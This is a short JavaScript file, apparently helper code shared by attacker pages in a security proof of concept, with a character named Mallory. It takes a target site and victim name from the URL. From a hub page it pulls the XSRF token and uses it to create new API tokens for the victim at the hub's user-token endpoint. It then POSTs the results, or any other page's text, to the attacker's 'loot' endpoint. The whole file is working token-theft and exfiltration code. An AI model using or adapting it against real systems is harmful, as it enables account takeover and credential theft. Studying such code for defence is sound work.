// What Mallory's pages share. `target` is the page that she wants to read as her visitor.
"use strict";
const asked = new URLSearchParams(location.search);
const target = asked.get("target");
const victim = asked.get("victim");
const prefix = location.pathname.replace(/attack\/.*/, "");

// Sent to Mallory's server.
const keep = (loot) => fetch(prefix + "loot", { method: "POST", body: JSON.stringify(loot) });

// A page of the hub gives a token that makes more of them; of any other page its text is the loot.
async function plunder(text) {
  const found = text.match(/xsrf_token: "([^"]+)"/);
  if (!found) {
    return keep({ text });
  }
  const url = new URL(`/hub/api/users/${victim}/tokens`, target);
  const headers = { "Content-Type": "application/json", "X-XSRFToken": found[1] };
  const answer = await fetch(url, { method: "POST", body: "{}", headers });
  return keep({ status: answer.status, ...(await answer.json()) });
}

function finish(how) {
  document.title = `finished: ${how}`;
}
